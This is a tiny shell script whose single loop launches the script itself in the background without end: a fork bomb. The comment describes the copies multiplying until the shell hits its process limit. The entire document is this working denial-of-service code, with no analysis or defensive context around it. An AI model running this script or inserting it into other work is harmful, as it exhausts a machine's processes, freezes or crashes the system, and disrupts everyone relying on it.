# Copies of itself in the background, and theirs. At the limit the shell gives up with code 2.
while :; do sh "$0" & done
